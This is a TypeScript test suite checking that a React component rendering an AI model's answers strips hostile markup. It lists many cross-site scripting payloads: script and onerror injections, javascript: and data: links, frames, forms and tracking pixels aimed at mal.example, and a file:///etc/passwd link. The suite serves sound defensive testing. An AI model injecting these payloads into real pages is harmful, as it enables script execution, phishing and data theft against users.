import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';

import { markdownOf } from './answer-markdown';
import AnswerText from './AnswerText';

const drawn = (...parts: Parameters<typeof markdownOf>[0]) =>
  renderToStaticMarkup(
    createElement(AnswerText, {
      markdown: markdownOf(parts),
      mark: (number) => createElement('sup', null, number),
      card: (number) => createElement('aside', null, `card ${number}`),
    }),
  );

/** Elements and attributes that a browser acts on, by itself or at a click: they load, run or lead away. */
const ELEMENTS = /<(?!\/)([a-z][\w-]*)/g;
const HARMLESS =
  /^(?:div|span|p|br|strong|em|del|h3|h4|ul|ol|li|blockquote|pre|code|hr|sup|aside|table|thead|tbody|tr|th|td)$/;
const TAGS = /<[a-z][^>]*>/g;
const ATTRIBUTES = /\s([a-z-]+)=/g;
const QUIET = /^(?:class|role|aria-label|tabindex|start|style)$/;

const HOSTILE: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'an event handler': '<img src=x onerror=alert(1)>',
  'an SVG': '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  'a frame': '<iframe src="https://mal.example/"></iframe>',
  'a frame of a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="https://mal.example/x.swf"></object>',
  'an embed': '<embed src="https://mal.example/x.swf">',
  'a form': '<form action="https://mal.example/"><input name=senha><button>Entrar</button></form>',
  'a style': '<style>body{background:url(https://mal.example/)}</style>',
  'a link element': '<link rel=stylesheet href=https://mal.example/a.css>',
  'a base': '<base href="https://mal.example/">',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://mal.example/">',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a video': '<video src="https://mal.example/v.mp4" autoplay></video>',
  'a picture': '<picture><source srcset="https://mal.example/a.png"></picture>',
  'a details that opens': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  MathML: '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  'a comment that ends': '<!--><img src=x onerror=alert(1)>-->',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a processing instruction': '<?xml-stylesheet href="https://mal.example/"?>',
  'HTML inside a paragraph': 'um <b onclick="alert(1)">dois</b> três',
  'HTML inside a table': '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <a href=x>y</a> |',
  'HTML inside a heading': '# <a href="javascript:alert(1)">x</a>',
  'HTML in a list': '- <iframe src=https://mal.example/></iframe>',
  'an unclosed tag': '<img src="https://mal.example/a.png',
  'a javascript link': '[abrir](javascript:alert(1))',
  'a javascript link in capitals': '[abrir](JaVaScRiPt:alert(1))',
  'a javascript link with a tab': '[abrir](java\tscript:alert(1))',
  'a javascript link with entities': '[abrir](&#106;avascript&colon;alert(1))',
  'a javascript link in angle brackets': '[abrir](<javascript:alert(1)>)',
  'a javascript reference': '[abrir][x]\n\n[x]: javascript:alert(1)',
  'a javascript autolink': '<javascript:alert(1)>',
  'a vbscript link': '[abrir](vbscript:msgbox(1))',
  'a data link': '[abrir](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a blob link': '[abrir](blob:https://mal.example/1)',
  'a file link': '[abrir](file:///etc/passwd)',
  'a link of our own': '[sair](/api/auth/sign-out)',
  'a relative link': '[ver](../processos)',
  'a link without protocol': '[ver](//mal.example/)',
  'a link to another page': '[Tribunal](https://mal.example/?d=segredo)',
  'a link in a title': '[x](https://mal.example/ "onmouseover=alert(1)")',
  'a bare address': 'Veja https://mal.example/?d=segredo e www.mal.example.',
  'an image': '![recibo](https://mal.example/pixel.png?d=segredo)',
  'an image by reference': '![recibo][p]\n\n[p]: https://mal.example/pixel.png',
  'an image of data': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'an image in a link': '[![x](https://mal.example/a.png)](https://mal.example/)',
  'a footnote': 'Um[^1].\n\n[^1]: Veja [aqui](javascript:alert(1)).',
  'a check box': '- [ ] um\n- [x] dois',
  'code with a tag': '```html\n<script>alert(1)</script>\n```',
  'code with a language that is none': '```"><img/src=x>\nx\n```',
  'a data element of ours': '<data value="1"></data><aside data-quote="1"></aside>',
  'an address that names another host': '[https://tribunal.example/](https://mal.example/)',
};

describe('the text of an answer', () => {
  it.each(Object.entries(HOSTILE))('neither loads, runs nor leads anywhere: %s', (_, text) => {
    const html = drawn({ text });
    const elements = [...html.matchAll(ELEMENTS)].map(([, name]) => name!);
    const attributes = [...html.matchAll(TAGS)].flatMap(([tag]) =>
      [...tag.matchAll(ATTRIBUTES)].map(([, name]) => name!),
    );
    expect(elements.filter((name) => !HARMLESS.test(name))).toEqual([]);
    expect(attributes.filter((name) => !QUIET.test(name))).toEqual([]);
    expect(html).not.toContain('<sup>1</sup></sup>');
    expect(html.replace(/<[^>]*>/g, '').trim()).not.toBe('');
  });

  it('names the host of each link', () => {
    expect(drawn({ text: '[Tribunal](https://mal.example/x)' })).toContain(
      '(https://mal.example/x)',
    );
    // A Cyrillic letter in place of a Latin one.
    expect(drawn({ text: '[Tribunal](https://c\u0438tius.example/)' })).toContain('(https://xn--');
    expect(drawn({ text: 'https://um.example/a' })).not.toContain('(');
  });

  it('has no characters that are invisible or reorder others', () => {
    const text =
      'o réu n\u200Bã\u00ADo\u2060 deve \u202E001\u202C \u2066euros\u2069\u{E0041}\uFEFF\u0007';
    expect(drawn({ text })).toContain('o réu não deve 001 euros<');
  });

  it('reads no placeholder of a quote from the model’s text', () => {
    const html = drawn({ text: 'um \uE0001\uE001 dois' });
    expect(html).toContain('um 1 dois');
    expect(html).not.toContain('<aside');
  });

  it('marks words that were not found, within their own element', () => {
    const html = drawn(
      { text: 'Lê-se **“tudo isto e mais”', mark: 'not_found' },
      { text: '**, e\n\n| a | b', mark: 'no_quote' },
      { text: ' |\n|---|---|\n| c | d' },
      { text: ' |\n\nO réu não pagou.', mark: 'no_quote' },
      { text: '\n\n\uE000not_found\uE001' },
    );
    expect(html).toMatch(/<strong>“tudo isto e mais”<span[^>]*>não verificada<\/span><\/strong>/);
    expect(html).toMatch(/<th>b<span[^>]*>sem citação<\/span><\/th>/);
    expect(html).toMatch(/<p>O réu não pagou.<span[^>]*>sem citação<\/span><\/p>/);
    expect(html.match(/não verificada/g)).toHaveLength(1);
  });

  it('has each quote’s mark where it is quoted, and its card below the block', () => {
    expect(
      drawn(
        { text: 'Um' },
        { quote: 1 },
        { text: ', mas **dois' },
        { quote: 2 },
        { text: '**.\n\nTrês.' },
      ),
    ).toContain(
      '<p>Um<sup>1</sup>, mas <strong>dois<sup>2</sup></strong>.</p><aside>card 1</aside><aside>card 2</aside>',
    );
    const list = drawn(
      { text: '- um' },
      { quote: 1 },
      { text: '\n  - dois' },
      { quote: 2 },
      { text: '\n- três' },
    );
    expect(list.replace(/\n/g, '')).toContain(
      '<li>um<sup>1</sup><aside>card 1</aside><ul><li>dois<sup>2</sup><aside>card 2</aside></li></ul></li><li>três</li>',
    );
    const table = drawn({ text: '| a |\n|---|\n| b' }, { quote: 1 }, { text: ' |' });
    expect(table).toMatch(/<td>b<sup>1<\/sup><\/td>.*<\/table><\/div><aside>card 1<\/aside>/s);
  });

  it.each([
    ['quotations in quotations', '>'.repeat(20_000) + ' x'],
    ['lists in lists', '- '.repeat(20_000) + 'x'],
    ['lists that grow deeper', deeper(2_000)],
    ['brackets', '['.repeat(20_000)],
    ['brackets and images', '![a'.repeat(10_000)],
    ['emphasis of two kinds', '*a _b '.repeat(5_000)],
    ['one long word', 'a'.repeat(200_000)],
  ])('is shown whatever it nests: %s', (_, text) => {
    expect(drawn({ text })).not.toBe('');
  });
});

function deeper(lines: number): string {
  return Array.from({ length: lines }, (_, depth) => `${' '.repeat(2 * depth)}- x`).join('\n');
}
